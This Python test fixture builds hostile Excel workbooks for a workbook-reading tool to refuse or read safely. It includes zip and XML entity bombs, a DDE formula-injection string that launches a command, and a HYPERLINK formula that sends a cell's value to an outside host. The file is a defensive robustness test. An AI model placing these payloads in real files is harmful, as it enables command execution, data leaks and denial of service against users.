"""Hostile workbooks, generated (never committed): each case builds one file and says what the
tool must do with it: refuse it with a message containing a phrase, or read it correctly.

Used by tests/test_workbook_hostile.py (outcomes, no traceback, a batch beside a good file) and by
bench/hostile_workbooks.py (time and peak memory per case, for the closing table)."""
from __future__ import annotations

import io
import zipfile
from dataclasses import dataclass
from pathlib import Path
from typing import Callable

from workbookkit import edit, fixture_workbook, where

LAUGHS = ('<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
          + "".join(f'<!ENTITY lol{i} "{("&lol%s;" % (i - 1 if i > 1 else "")) * 10}">' for i in range(1, 10))
          + "]>")


def _member(data: bytes, title: str) -> str:
    """The zip member holding sheet `title` (openpyxl numbers them in sheet order)."""
    with zipfile.ZipFile(io.BytesIO(data)) as book:
        text = book.read("xl/workbook.xml").decode()
    names = [part.split('"')[0] for part in text.split('<sheet name="')[1:]]
    return f"xl/worksheets/sheet{names.index(title) + 1}.xml"


def rezip(data: bytes, change: Callable[[str, bytes], bytes | None], extra: dict[str, bytes] | None = None,
          level: int = 6) -> bytes:
    """A copy of the workbook with members changed (None drops one) and `extra` members added."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as source, \
            zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as target:
        for info in source.infolist():
            payload = change(info.filename, source.read(info.filename))
            if payload is not None:
                target.writestr(info.filename, payload)
        for name, payload in (extra or {}).items():
            target.writestr(name, payload)
    return out.getvalue()


def _sheet_patch(data: bytes, title: str, old: bytes, new: bytes) -> bytes:
    member = _member(data, title)

    def change(name: str, payload: bytes) -> bytes:
        if name == member:
            assert old in payload, (old, payload[:200])
            return payload.replace(old, new, 1)
        return payload
    return rezip(data, change)


def zip_bomb() -> bytes:
    """A sheet that inflates to 40 MiB of padding (about 40 KB compressed)."""
    base = fixture_workbook()
    member = _member(base, "Governance")
    pad = b" " * (40 * 1024 * 1024)
    return rezip(base, lambda n, p: p.replace(b"<sheetData>", pad + b"<sheetData>", 1) if n == member else p, level=9)


def entity_bomb_sheet() -> bytes:
    base = fixture_workbook()
    member = _member(base, "Governance")
    return rezip(base, lambda n, p: LAUGHS.encode() + p.split(b"?>", 1)[-1] if n == member else p)


def entity_bomb_shared_strings() -> bytes:
    base = fixture_workbook()
    title, ref = where("footprint.name")
    patched = _sheet_patch(base, title, f'<c r="{ref}" s='.encode(), f'<c r="{ref}" t="s" s='.encode())
    member = _member(base, title)
    shared = (LAUGHS + '<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1">'
              "<si><t>&lol9;</t></si></sst>").encode()
    return rezip(patched, lambda n, p: p, {"xl/sharedStrings.xml": shared}) if member else patched


def million_rows() -> bytes:
    base = fixture_workbook()
    member = _member(base, "Evidence")
    rows = b"".join(b'<row r="%d"><c r="A%d"><v>1</v></c></row>' % (i, i) for i in range(2, 1_000_002))
    return rezip(base, lambda n, p: p.replace(b"</sheetData>", rows + b"</sheetData>", 1)
                 if n == member and b"</sheetData>" in p else p)


def many_rows_under_size_cap() -> bytes:
    base = fixture_workbook()
    member = _member(base, "Evidence")
    rows = b"".join(b'<row r="%d"><c r="A%d"><v>1</v></c></row>' % (i, i) for i in range(5000, 8000))
    return rezip(base, lambda n, p: p.replace(b"</sheetData>", rows + b"</sheetData>", 1) if n == member else p)


def five_mb_cell() -> bytes:
    return edit(fixture_workbook(), {"footprint.name": "x" * (5 * 1024 * 1024)})


def external_link() -> bytes:
    base = edit(fixture_workbook(), {"governance.board_meetings_last_12_months": "=6*2"})
    return _sheet_patch(base, "Governance", b"<f>6*2</f><v />", b"<f>[1]Sheet1!$A$1</f><v>12</v>")


def hidden_and_extra_sheets() -> bytes:
    from openpyxl import load_workbook

    book = load_workbook(io.BytesIO(fixture_workbook()))
    book["Governance"].sheet_state = "hidden"
    notes = book.create_sheet("Our notes")
    notes["A1"] = "scratch figures"
    notes["C5"] = 123
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def misnamed_sheet() -> bytes:
    from openpyxl import load_workbook

    book = load_workbook(io.BytesIO(fixture_workbook()))
    book["Governance"].title = "Goverance"
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def merged_value_cells() -> bytes:
    from openpyxl import load_workbook

    book = load_workbook(io.BytesIO(fixture_workbook()))
    title, ref = where("governance.board_established")
    row = int(ref[1:])
    book[title].merge_cells(f"C{row}:C{row + 2}")
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def formula_injection_text() -> bytes:
    return edit(fixture_workbook(), {"footprint.name": "=cmd|' /C calc'!A0",
                                     "Evidence!C2": "@SUM(1+1)*cmd|' /C calc'!A0"},
                text={"footprint.name", "Evidence!C2"})


def formula_injection_formula() -> bytes:
    base = edit(fixture_workbook(), {"footprint.name": "=1"})
    title, ref = where("footprint.name")
    return _sheet_patch(base, title, b"<f>1</f><v />",
                        b'<f>HYPERLINK("http://example.invalid/?"&amp;A1,"x")</f><v>x</v>')


def not_a_zip() -> bytes:
    return b"name,population\nDorset,770000\n" * 100


def ole_file() -> bytes:
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 4096


def truncated_zip() -> bytes:
    return fixture_workbook()[:5000]


@dataclass(frozen=True)
class Case:
    name: str
    build: Callable[[], bytes]
    suffix: str
    expect: str  # "read" or a phrase the refusal contains


CASES = [
    Case("zip bomb (a sheet inflating to 40 MiB)", zip_bomb, ".xlsx", "inflates to 40 MiB"),
    Case("XML entity bomb in a sheet", entity_bomb_sheet, ".xlsx", "declares a DTD or entities"),
    Case("XML entity bomb in sharedStrings", entity_bomb_shared_strings, ".xlsx", "declares a DTD or entities"),
    Case("a sheet of a million rows", million_rows, ".xlsx", "MiB"),
    Case("3,000 rows under the size cap", many_rows_under_size_cap, ".xlsx", "more than 2,100 rows"),
    Case("a 5 MB cell", five_mb_cell, ".xlsx", "at most 200 characters"),
    Case("external link formula", external_link, ".xlsx", "refers to another workbook"),
    Case("hidden section sheet and an extra sheet", hidden_and_extra_sheets, ".xlsx", "read"),
    Case("misspelt sheet name", misnamed_sheet, ".xlsx", "Did you mean 'Governance'?"),
    Case("merged cells over value cells", merged_value_cells, ".xlsx", "merged cells"),
    Case("formula-injection text", formula_injection_text, ".xlsx", "read"),
    Case("HYPERLINK formula with a saved value", formula_injection_formula, ".xlsx", "refers to another workbook"),
    Case("not a zip at all", not_a_zip, ".xlsx", "not an Excel workbook"),
    Case("an old .xls renamed .xlsx", ole_file, ".xlsx", "Excel 97-2003"),
    Case("a truncated zip", truncated_zip, ".xlsx", "not an Excel workbook"),
    Case(".xlsm", fixture_workbook, ".xlsm", "save it as an Excel Workbook (.xlsx)"),
    Case(".xls", ole_file, ".xls", "save it as an Excel Workbook (.xlsx)"),
    Case(".xlsb", fixture_workbook, ".xlsb", "save it as an Excel Workbook (.xlsx)"),
    Case(".ods", fixture_workbook, ".ods", "save it as an Excel Workbook (.xlsx)"),
]


_BUILT: dict[str, bytes] = {}  # each case's bytes, built once per test session


def build(case: Case, folder: Path) -> Path:
    path = folder / (case.name.replace(" ", "-").replace("/", "-").strip(".") + case.suffix)
    if case.name not in _BUILT:
        _BUILT[case.name] = case.build()
    path.write_bytes(_BUILT[case.name])
    return path
